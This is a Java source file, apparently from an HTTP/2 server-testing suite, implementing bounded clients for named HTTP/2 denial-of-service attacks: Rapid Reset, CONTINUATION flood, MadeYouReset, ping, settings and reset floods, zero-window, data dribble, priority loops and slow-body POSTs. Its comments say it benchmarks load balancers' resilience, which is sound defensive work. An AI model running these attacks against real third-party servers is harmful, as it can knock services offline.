package io.github.http2wildfly.measure.attack;

import io.github.http2wildfly.setting.Token;
import io.netty.handler.codec.http2.Http2Exception;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;
import java.io.IOException;
import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import javax.net.ssl.SSLContext;

/**
 * The HTTP/2 attacks with names, and the two probes of issue hop-2, each a bounded client: at most its frames or
 * requests, at most the target's time, over connections of {@link RawHttp2} that it closes. It sends at the scale an
 * attacker picks (tens of thousands of frames), not at a server's limits, and reports what the server did
 * ({@link Outcome}), judging nothing: the same attack on any HTTP/2 server over TLS (the balancers' benchmark runs each
 * against WildFly's balancer, HAProxy, nginx and door 2; an IT against door 2).
 */
public enum Attack implements Token {

    /** CVE-2023-44487: a stream opened and reset at once, again and again, so the server starts work it never finishes. */
    RAPID_RESET("rapid reset", "CVE-2023-44487", 20_000, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).onConnectionsInTurn((connection, step) -> {
                connection.headers(stream(step), connection.get(target.largePath()), true);
                connection.reset(stream(step));
            });
        }
    },
    /** CVE-2024-27316: one header block that never ends, CONTINUATION after CONTINUATION (8 KB each: 64 MiB in all). */
    CONTINUATION_FLOOD("CONTINUATION flood", "CVE-2024-27316", 8_192, "frames") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            Run run = new Run(target, this);
            return run.onConnectionsInTurn((connection, step) -> {
                if (step == 1) {
                    connection.headersToBeContinued(1, connection.get(target.smallPath()));
                }
                connection.continuation(1, 8_192, false);
            });
        }
    },
    /**
     * CVE-2025-8671 ("MadeYouReset"; Undertow's CVE-2025-9784): a complete request, then a frame that makes the server
     * reset the stream itself (a WINDOW_UPDATE of 0): the stream no longer counts against the limit, the work goes on.
     */
    MADE_YOU_RESET("MadeYouReset", "CVE-2025-8671", 20_000, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).onConnectionsInTurn((connection, step) -> {
                connection.headers(stream(step), connection.get(target.largePath()), true);
                connection.windowUpdate(stream(step), 0);
            });
        }
    },
    /** CVE-2019-9512: PINGs from a client that reads nothing, so the server's ACKs pile up. */
    PING_FLOOD("ping flood", "CVE-2019-9512", 500_000, "frames") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).notReading((connection, frame) -> connection.ping(frame));
        }
    },
    /** CVE-2019-9514: requests the server must reset (a WINDOW_UPDATE of 0 on each), from a client that reads nothing. */
    RESET_FLOOD("reset flood", "CVE-2019-9514", 100_000, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).notReading((connection, step) -> {
                connection.headers(stream(step), connection.get(target.smallPath()), true);
                connection.windowUpdate(stream(step), 0);
            });
        }
    },
    /** CVE-2019-9515: SETTINGS frames from a client that reads nothing, so the server's ACKs pile up. */
    SETTINGS_FLOOD("settings flood", "CVE-2019-9515", 500_000, "frames") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).notReading((connection, frame) -> connection.settings(new Http2Settings()));
        }
    },
    /** CVE-2019-9518: a request body sent as DATA frames of no bytes, each costing the server a frame's work and nothing else. */
    EMPTY_FRAMES("empty frames", "CVE-2019-9518", 500_000, "frames") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            Run run = new Run(target, this);
            return run.onConnectionsInTurn((connection, step) -> {
                if (step == 1) {
                    connection.headers(1, connection.post(target.smallPath()), false);
                }
                connection.data(1, new byte[0], false);
            });
        }
    },
    /** CVE-2019-9517: large answers asked for on a window of 0, held open: the server buffers what it cannot send. */
    ZERO_WINDOW("zero window", "CVE-2019-9517", 400, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).heldOpen(4, new Http2Settings().initialWindowSize(0),
                    (connection, step) -> connection.headers(stream(step), connection.get(target.largePath()), true), (connection, streams) -> {
                    });
        }
    },
    /** CVE-2019-9511: large answers on a window of 1 byte, credited a byte at a time, so the server sends them in 1-byte frames. */
    DATA_DRIBBLE("data dribble", "CVE-2019-9511", 100, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).heldOpen(1, new Http2Settings().initialWindowSize(1),
                    (connection, step) -> connection.headers(stream(step), connection.get(target.largePath()), true), (connection, streams) -> {
                        for (int stream : streams) {
                            connection.windowUpdate(stream, 1);
                        }
                        connection.windowUpdate(0, streams.size());
                    });
        }
    },
    /** CVE-2019-9513: streams whose priorities are shuffled without end, so the server rebuilds its priority tree. */
    RESOURCE_LOOP("resource loop", "CVE-2019-9513", 200_000, "frames") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            Run run = new Run(target, this);
            int streams = 100;
            return run.onConnectionsInTurn((connection, step) -> {
                if (step <= streams) {
                    connection.headers(stream(step), connection.get(target.smallPath()), true);
                } else { // each stream made to depend on another, a new one each time
                    int stream = stream(1 + step % streams);
                    int dependency = stream(1 + (step + 37) % streams);
                    connection.priority(stream, dependency == stream ? 0 : dependency, (short) (1 + step % 256));
                }
            });
        }
    },
    /**
     * Issue hop-2's first probe: the 2 MB tile asked for and cancelled as soon as its answer begins, as a browser does when
     * its user leaves a page of large images; a connection the server closes is opened again, as browsers do.
     */
    CANCELLED_DOWNLOADS("cancelled downloads", "hop-2", 450, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).cancelledAtTheirHeaders();
        }
    },
    /**
     * Issue hop-2's second probe: 4 connections of 2,000 POSTs each declaring a 64 KiB body (the read ahead's size, and
     * the balancer's buffering limit) and sending none of it.
     */
    BODILESS_POSTS("bodiless POSTs", "hop-2", 8_000, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).bodiless(Optional.of(65_536L));
        }
    },
    /** The same family a byte past every limit at 64 KiB: 65,537 bytes declared (issue shield). */
    BODILESS_POSTS_PAST_THE_LIMIT("bodiless POSTs, a byte past 64 KiB", "shield", 8_000, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).bodiless(Optional.of(65_537L));
        }
    },
    /** The same family without a content-length: a body of no declared size, never sent (issue shield). */
    BODILESS_POSTS_UNDECLARED("bodiless POSTs, no length declared", "shield", 8_000, "requests") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).bodiless(Optional.empty());
        }
    },
    /**
     * R.U.D.Y. over HTTP/2 (issue shield): 2 connections of 50 POSTs each declaring a body of 1,000,000 bytes and sending
     * one byte a stream every 5 s; a stream the server answers or resets is opened again, and a connection it closes.
     */
    SLOW_BODIES("slow bodies", "R.U.D.Y.", 100, "streams") {
        @Override
        public Outcome against(Target target) throws IOException, InterruptedException {
            return new Run(target, this).trickled(2, true);
        }
    };

    /**
     * Where an attack goes: a server's door 2 (HTTP/2 over TLS) whose certificate {@code tls} trusts, a small and a large
     * answer on it, and how long an attack may last.
     */
    public record Target(SSLContext tls, URI door, String smallPath, String largePath, Duration time, boolean reconnects) {

        /** The suite's target: an attack ended by the server reconnects and goes on, as an attacker's would. */
        public Target(SSLContext tls, URI door, String smallPath, String largePath, Duration time) {
            this(tls, door, smallPath, largePath, time, true);
        }

        /** The same, where an attack ends once the server has ended its connection (the server check's, sent gently). */
        public Target once() {
            return new Target(tls, door, smallPath, largePath, time, false);
        }
    }

    /** One step of an attack on a connection (a request, a frame), numbered from 1. */
    interface Step {
        void send(RawHttp2 connection, int step) throws IOException, Http2Exception;
    }

    /** The client stream a step opens where each opens one: 1, 3, 5, ... */
    static int stream(int step) {
        return 2 * step - 1;
    }

    /** What a held attack does on each connection, round after round, while it holds them. */
    interface Hold {
        void round(RawHttp2 connection, List<Integer> streams) throws IOException;
    }

    private final String label;
    private final String reference;
    private final long scale;
    private final String unit;

    Attack(String label, String reference, long scale, String unit) {
        this.label = label;
        this.reference = reference;
        this.scale = scale;
        this.unit = unit;
    }

    /** Runs the attack on the target and says what the server did. */
    public abstract Outcome against(Target target) throws IOException, InterruptedException;

    /**
     * {@link #SLOW_BODIES} gently, as the server check sends them: {@code streams} POSTs on one connection, trickled as it
     * trickles them, none opened again; it ends when the server has answered, reset or closed them all, or at its time.
     */
    public static Outcome slowBodiesOnce(Target target, int streams) throws IOException, InterruptedException {
        return new Run(target, SLOW_BODIES, streams).trickled(1, false);
    }

    /** As the report names it: "rapid reset". */
    public String label() {
        return label;
    }

    /** Its CVE, or the issue that found it. */
    public String reference() {
        return reference;
    }


    /** One run of an attack: its clock, its connections, and the tally of what they saw. */
    private static final class Run {

        private static final int FLUSH_EVERY = 64;
        /** How long the server's last word (its GOAWAY, its close) is waited for once an attack has sent all it will. */
        private static final Duration LAST_WORD = Duration.ofSeconds(2);

        private final Target target;
        private final Attack attack;
        /** What it sends at most, in the attack's unit: the attack's own scale, or a smaller one of the caller's. */
        private final long scale;
        private final Instant started = Instant.now();
        private final Instant deadline;
        private final List<RawHttp2> connections = new CopyOnWriteArrayList<>();
        private final Watchdog watchdog;

        Run(Target target, Attack attack) {
            this(target, attack, attack.scale);
        }

        Run(Target target, Attack attack, long scale) {
            this.target = target;
            this.attack = attack;
            this.scale = scale;
            this.deadline = started.plus(target.time());
            this.watchdog = new Watchdog(connections, deadline);
        }

        private boolean inTime() {
            return Instant.now().isBefore(deadline);
        }

        private RawHttp2 open(Http2Settings ours) throws IOException, InterruptedException {
            RawHttp2 connection = RawHttp2.open(target.tls(), target.door(), ours);
            connections.add(connection);
            connection.awaitSettingsExchanged();
            return connection;
        }

        /**
         * Steps on a connection until all are sent or the time is up; a connection the server closes or ends with a GOAWAY
         * is followed by a new one, its steps numbered from 1 again (an attacker reconnects), until the server takes none,
         * where the target {@linkplain Target#reconnects() reconnects}.
         */
        Outcome onConnectionsInTurn(Step step) throws IOException, InterruptedException {
            long sent = 0;
            while (sent < scale && inTime()) {
                RawHttp2 connection;
                try {
                    connection = open(new Http2Settings());
                } catch (IOException refused) {
                    break; // the server takes no new connection: the attack ends here
                }
                try {
                    for (int i = 1; sent < scale && inTime(); i++) {
                        step.send(connection, i);
                        sent++;
                        if (i % FLUSH_EVERY == 0 && !connection.flush() || connection.closedByTheServer() || connection.goAwayError() >= 0) {
                            break;
                        }
                    }
                    connection.flush();
                } catch (IOException | Http2Exception refused) {
                    // the server's close, seen by a write (or by the codec, which refuses a frame once the connection is gone)
                }
                if (sent >= scale || !inTime() || !target.reconnects()) {
                    break;
                }
                connection.awaitGoAwayOrClose(LAST_WORD);
                if (!connection.closedByTheServer() && connection.goAwayError() < 0) {
                    break; // it stopped taking frames without a word: nothing to reconnect from
                }
            }
            return end(sent);
        }

        /** Frames from a client that reads nothing until it has sent them all (or the server closes, or the time is up). */
        Outcome notReading(Step step) throws IOException, InterruptedException {
            RawHttp2 connection = open(new Http2Settings());
            connection.pauseReading();
            long sent = 0;
            try {
                for (int i = 1; i <= scale && inTime(); i++) {
                    step.send(connection, i);
                    if (i % FLUSH_EVERY == 0 && !connection.flush()) {
                        break;
                    }
                    sent = i;
                }
                connection.flush();
            } catch (IOException | Http2Exception refused) {
                // as above
            }
            connection.resumeReading(); // what the server said meanwhile, its GOAWAY last
            return end(sent);
        }

        /** Requests opened over {@code count} connections with these SETTINGS, then held until the time is up, a round at a time. */
        Outcome heldOpen(int count, Http2Settings ours, Step request, Hold hold) throws IOException, InterruptedException {
            long sent = 0;
            List<List<Integer>> streams = new ArrayList<>();
            try {
                for (int c = 0; c < count; c++) {
                    RawHttp2 connection = open(ours);
                    List<Integer> opened = new ArrayList<>();
                    for (int i = 1; i <= scale / count && inTime(); i++) {
                        request.send(connection, i);
                        opened.add(stream(i));
                        sent++;
                    }
                    connection.flush();
                    streams.add(opened);
                }
                while (inTime()) {
                    for (int c = 0; c < connections.size(); c++) {
                        hold.round(connections.get(c), streams.get(c));
                        connections.get(c).flush();
                    }
                    Thread.sleep(10);
                }
            } catch (IOException | Http2Exception refused) {
                // as above
            }
            return end(sent);
        }

        /** POSTs over 4 connections, each declaring {@code length} bytes (or nothing) and sending none of it, held open. */
        Outcome bodiless(Optional<Long> length) throws IOException, InterruptedException {
            return heldOpen(4, new Http2Settings(), (connection, step) -> {
                Http2Headers post = connection.post(target.smallPath());
                length.ifPresent(bytes -> post.set("content-length", Long.toString(bytes)));
                connection.headers(stream(step), post, false);
            }, (connection, streams) -> {
            });
        }

        /**
         * POSTs over {@code count} connections, each declaring 1,000,000 bytes and sent one byte a stream every 5 s, for
         * as long as the attack lasts; where {@code reopen}, a stream answered or reset is replaced by a new one, a
         * connection closed or gone away by a new one with all its streams; else it ends once none is left.
         */
        Outcome trickled(int count, boolean reopen) throws IOException, InterruptedException {
            long declared = 1_000_000;
            Duration every = Duration.ofSeconds(5);
            int perConnection = (int) (scale / count);
            List<RawHttp2> held = new ArrayList<>();
            List<List<Integer>> streams = new ArrayList<>();
            long[] sent = {0};
            Step post = (connection, step) -> {
                connection.headers(stream(step), connection.post(target.smallPath()).set("content-length", Long.toString(declared)), false);
                sent[0]++;
            };
            try {
                for (int c = 0; c < count; c++) {
                    held.add(open(new Http2Settings()));
                    streams.add(new ArrayList<>());
                }
                int[] nextStep = new int[count];
                Instant nextByte = Instant.now();
                while (inTime()) {
                    boolean byteDue = reopen || !Instant.now().isBefore(nextByte); // reopening, each round is a byte's
                    for (int c = 0; c < count; c++) {
                        RawHttp2 connection = held.get(c);
                        if (connection.closedByTheServer() || connection.goAwayError() >= 0) {
                            if (!reopen) {
                                streams.get(c).clear();
                                continue;
                            }
                            connection = open(new Http2Settings());
                            held.set(c, connection);
                            streams.get(c).clear();
                            nextStep[c] = 0;
                        }
                        List<Integer> trickling = streams.get(c);
                        for (int s = 0; s < trickling.size(); s++) {
                            int stream = trickling.get(s);
                            if (connection.resets().containsKey(stream) || connection.awaitStatus(stream, Duration.ZERO).isPresent()) {
                                trickling.remove(s--);
                            } else if (byteDue) {
                                connection.data(stream, new byte[] {'x'}, false);
                            }
                        }
                        while (trickling.size() < perConnection && (reopen || nextStep[c] < perConnection)) {
                            trickling.add(stream(++nextStep[c]));
                            post.send(connection, nextStep[c]);
                        }
                        connection.flush();
                    }
                    if (byteDue) {
                        nextByte = Instant.now().plus(every);
                    }
                    if (!reopen && streams.stream().allMatch(List::isEmpty)) {
                        break; // the server has ended every stream it was sent
                    }
                    // without reopening, what the server did is looked at between the bytes too: it ends as soon as it can
                    Duration pause = reopen ? every : Duration.ofMillis(100);
                    Thread.sleep(Math.max(1, Math.min(pause.toMillis(), Duration.between(Instant.now(), deadline).toMillis())));
                }
            } catch (IOException | Http2Exception refused) {
                // as above: a connection the server would not take, or one it closed under a write
            }
            return end(sent[0]);
        }

        /** The large answer asked for and cancelled once its HEADERS came; a closed connection opened again. */
        Outcome cancelledAtTheirHeaders() throws IOException, InterruptedException {
            long sent = 0;
            RawHttp2 connection = openCrediting();
            int stream = 1;
            while (sent < scale && inTime()) {
                if (connection.closedByTheServer() || connection.goAwayError() >= 0) {
                    try {
                        connection = openCrediting();
                    } catch (IOException refused) {
                        break; // the server takes no new connection: the attack ends here
                    }
                    stream = 1;
                }
                try {
                    connection.headers(stream, connection.get(target.largePath()), true);
                    if (connection.flush()) {
                        sent++;
                        connection.awaitStatus(stream, Duration.between(Instant.now(), deadline).plusMillis(1));
                        connection.reset(stream);
                        connection.flush();
                    } else {
                        connection.awaitGoAwayOrClose(LAST_WORD);
                    }
                } catch (IOException gone) {
                    connection.awaitGoAwayOrClose(LAST_WORD); // the server's close, seen by the codec: the next turn opens another
                }
                stream += 2;
            }
            return end(sent);
        }

        /** A connection whose window is given back as DATA comes (each stream's is not): a browser's, reading what arrives. */
        private RawHttp2 openCrediting() throws IOException, InterruptedException {
            RawHttp2 connection = open(new Http2Settings());
            connection.creditTheConnection();
            return connection;
        }

        /** The server's last word on every connection, then what they saw, added up; every connection closed. */
        private Outcome end(long sent) throws InterruptedException {
            watchdog.close();
            Outcome.Tally tally = new Outcome.Tally(watchdog.fired());
            for (RawHttp2 connection : connections) {
                connection.awaitGoAwayOrClose(LAST_WORD);
            }
            for (RawHttp2 connection : connections) {
                tally.add(connection);
                try {
                    connection.close();
                } catch (IOException alreadyGone) {
                    // closed is what we want
                }
            }
            return tally.outcome(sent, scale, attack.unit, Duration.between(started, Instant.now()));
        }
    }

    /** Closes the attack's connections at its deadline (and a little after), whatever blocks its writes. */
    private static final class Watchdog implements AutoCloseable {

        private final Thread thread;
        private volatile boolean fired;

        Watchdog(List<RawHttp2> connections, Instant deadline) {
            thread = new Thread(() -> {
                try {
                    Thread.sleep(Math.max(0, Duration.between(Instant.now(), deadline).plusSeconds(1).toMillis()));
                    fired = true;
                    for (RawHttp2 connection : connections) {
                        connection.close();
                    }
                } catch (InterruptedException | IOException done) {
                    // the attack ended first
                }
            }, "attack-watchdog");
            thread.setDaemon(true);
            thread.start();
        }

        /** Whether it had to close the connections: the attack's writes were blocked, the server no longer reading them. */
        boolean fired() {
            return fired;
        }

        @Override
        public void close() {
            thread.interrupt();
        }
    }
}
